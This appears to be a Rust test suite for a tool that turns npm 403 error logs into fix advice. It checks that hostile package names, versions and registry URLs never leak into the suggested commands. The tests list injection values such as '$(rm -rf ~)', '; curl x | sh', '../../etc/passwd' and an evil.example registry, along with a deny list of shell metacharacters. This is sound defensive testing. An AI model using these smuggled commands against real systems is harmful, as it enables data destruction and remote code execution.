//! What a log may try: each input gives a clear answer, nothing crashes, no command can do harm.

use unforbid::advice::{Advice, Shell, StepKind};
use unforbid::knowledge::Knowledge;
use unforbid::{Preferences, explain, text};

fn advise(log: &[u8]) -> Advice {
    explain(text::decode(log), "hostile.log", Knowledge::bundled(), &Preferences::default()).advice
}

fn advise_public(log: &str) -> Advice {
    advise(Knowledge::bundled().expand(log).as_bytes())
}

/// Every command of an answer in every shell, with its argument vector where there is one.
fn commands(advice: &Advice) -> Vec<String> {
    let causes = advice.incidents.iter().flat_map(|incident| &incident.causes);
    let steps = causes.clone().flat_map(|cause| &cause.fixes).flat_map(|fix| &fix.steps);
    let from_steps = steps.filter_map(|step| step.command.as_ref());
    let from_checks = causes.flat_map(|cause| &cause.checklist).filter_map(|check| check.command.as_ref());
    from_steps
        .chain(from_checks)
        .flat_map(|command| Shell::ALL.into_iter().filter_map(|shell| command.for_shell(shell)))
        .map(str::to_owned)
        .collect()
}

const HOSTILE_NAMES: [&str; 14] = [
    "$(rm -rf ~)",
    "; curl x | sh",
    "--registry=http://evil.example",
    "`id`",
    "a&calc.exe",
    "a|b",
    "x\u{202e}gnp.tset",
    "l\u{435}ft-pad",
    "a\u{200b}b",
    "it\u{2019}s",
    "%PATH%",
    "a'b\"c",
    "../../etc/passwd",
    "-rf",
];

#[test]
fn a_hostile_package_name_never_reaches_a_command() {
    for name in HOSTILE_NAMES {
        let log = format!(
            "npm notice name: {name}\nnpm notice version: 1.0.2\nnpm error code E403\n\
             npm error 403 403 Forbidden - PUT https://{{npm}}/{} - You do not have permission to publish \"{name}\". \
             Are you logged in as the correct user?",
            name.replace(' ', "%20")
        );
        let advice = advise_public(&log);
        assert_eq!(advice.incidents.len(), 1, "{name}");
        let commands = commands(&advice);
        assert!(!commands.is_empty(), "{name}: the harmless commands stay");
        for command in commands {
            assert!(!command.contains(name), "{command}");
            for sign in ["$(", "`", ";", "|", "&", "\n", "\u{202e}", "=http", "rm -rf", "calc", "../"] {
                assert!(!command.contains(sign), "{name}: {command}");
            }
        }
    }
}

#[test]
fn a_hostile_version_scope_or_registry_never_reaches_a_command() {
    let logs = [
        "npm error 403 403 Forbidden - PUT https://{npm}/my-utils - You cannot publish over the previously published versions: 1.0.2;reboot.",
        "npm notice Publishing to https://evil.example/$(id)/\nnpm notice name: @acme/ui\nnpm error code E403\nnpm error 403 403 Forbidden - PUT https://evil.example/$(id)/@acme%2fui",
        "npm error 403 403 Forbidden - GET https://user:pa55@evil.example/%0a;reboot/x",
        "npm error 403 403 Forbidden - PUT https://evil.example/@acme;reboot%2fui - no permission",
    ];
    for log in logs {
        let advice = advise_public(&format!("npm error code E403\n{log}"));
        assert!(!advice.incidents.is_empty(), "{log}");
        for command in commands(&advice) {
            for sign in [";", "$(", "reboot", "pa55"] {
                assert!(!command.contains(sign), "{command}");
            }
        }
    }
}

#[test]
fn an_unusable_name_is_said_and_not_hidden() {
    let advice = advise_public(
        "npm error code E403\nnpm error 403 403 Forbidden - PUT https://{npm}/$(id) - \
         You do not have permission to publish \"$(id)\". Are you logged in as the correct user?",
    );
    let said = advice.incidents[0].causes[0]
        .fixes
        .iter()
        .flat_map(|fix| &fix.steps)
        .any(|step| step.kind == StepKind::Tell && step.text.contains("not a valid one"));
    assert!(said);
}

#[test]
fn empty_and_blank_text_say_so() {
    for log in ["", " ", "\n\n\n", "\u{feff}", "\r\n \t"] {
        let advice = advise(log.as_bytes());
        assert!(advice.incidents.is_empty());
        assert_eq!(
            advice.nothing.as_ref().map(|nothing| nothing.title.as_str()),
            Some("There is no text to read"),
            "{log:?}"
        );
    }
}

#[test]
fn a_log_without_403_says_what_was_understood_and_what_would_decide() {
    let advice = advise(b"$ npm install\nadded 403 packages in 4s\nfound 0 vulnerabilities\n");
    assert!(advice.incidents.is_empty());
    let nothing = advice.nothing.unwrap();
    assert_eq!(nothing.title, "Nothing to diagnose");
    assert!(nothing.understood.iter().any(|sentence| sentence.contains("npm install")), "{nothing:?}");
    assert!(nothing.wanted.contains("_logs"));
}

#[test]
fn numbers_and_foreign_403s_are_not_claimed() {
    let logs = [
        "npm http fetch GET 200 https://{npm}/left-pad 403ms (cache miss)",
        "added 403 packages, and audited 404 packages in 3s",
        "fatal: unable to access 'https://git.acme.example/x.git/': The requested URL returned error: 403",
        "E: Failed to fetch http://deb.acme.example/x  403  Forbidden [IP: 10.0.0.1 80]",
        "ERROR: Could not install packages due to an OSError: HTTPSConnectionPool(host='pip.acme.example'): 403 Client Error: Forbidden for url",
        "denied: permission_denied: The token provided does not match expected scopes.\nThe push refers to repository [containers.acme.example/x]",
        "✓ returns 403 Forbidden for strangers (12 ms)",
        "left-padd-403@1.0.0 port 4039 version 4.0.3",
    ];
    for log in logs {
        let advice = advise_public(log);
        assert!(advice.incidents.is_empty(), "{log}: {:?}", advice.incidents[0].causes[0].id);
    }
}

#[test]
fn binary_files_and_nul_bytes_are_read_without_harm() {
    let mut gzip = vec![0x1f, 0x8b, 0x08, 0x00];
    gzip.extend((0..20_000u32).map(|number| (number.wrapping_mul(2_654_435_761) >> 24) as u8));
    let advice = advise(&gzip);
    assert!(advice.incidents.is_empty());
    assert!(advice.warnings.iter().any(|warning| warning.contains("binary")), "{:?}", advice.warnings);

    let with_nul = Knowledge::bundled().expand(
        "npm error code E403\nnpm error 403 403 For\0bidden - PUT https://{npm}/my-utils - You cannot publish over the previously published versions: 1.0.2.",
    );
    assert_eq!(advise(with_nul.as_bytes()).incidents[0].causes[0].id, "version-exists");
}

#[test]
fn one_line_of_five_megabytes_is_read_and_its_error_found() {
    let mut line = "x".repeat(5 * 1024 * 1024);
    line.push_str(" npm error 403 403 Forbidden - PUT https://{npm}/my-utils - my-utils cannot be republished until 24 hours have passed.");
    let advice = advise_public(&line);
    assert_eq!(advice.incidents[0].causes[0].id, "republish-cooldown");
    assert!(advice.incidents[0].causes[0].evidence[0].text.chars().count() <= 400);
}

#[test]
fn ten_thousand_identical_errors_are_one_incident() {
    let error = "npm error code E403\nnpm error 403 403 Forbidden - PUT https://{npm}/my-utils - You cannot publish over the previously published versions: 1.0.2.\n";
    let advice = advise_public(&error.repeat(10_000));
    assert_eq!(advice.incidents.len(), 1);
    assert_eq!(advice.incidents[0].occurrences, 10_000);
    assert!(advice.incidents[0].causes[0].evidence.len() <= 6);
}

#[test]
fn every_cut_of_a_log_is_read_without_a_crash() {
    let log = Knowledge::bundled().expand(
        "\u{feff}2026-11-21T20:05:04.0000000Z \u{1b}[31mnpm error\u{1b}[0m code E403\r\n\
         ➤ YN0035: │   Response Code: 403 (Forbidden)\r\n{\"log\":\"npm error 403 403 Forbidden - PUT https://{npm}/@acme%2fui - é\"}\r\n\
         2026-07-21T09:01:43.833Z|b95c||ci|PUT|/api/npm/npm-local/ui|403|3106|144|12|npm/9.2.0 node/v19.4.0\n",
    );
    let bytes = log.as_bytes();
    for end in 0..=bytes.len() {
        advise(&bytes[..end]);
        advise(&bytes[end..]);
    }
    let wide: Vec<u8> = log.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for end in 0..=wide.len() {
        advise(&wide[..end]);
    }
}
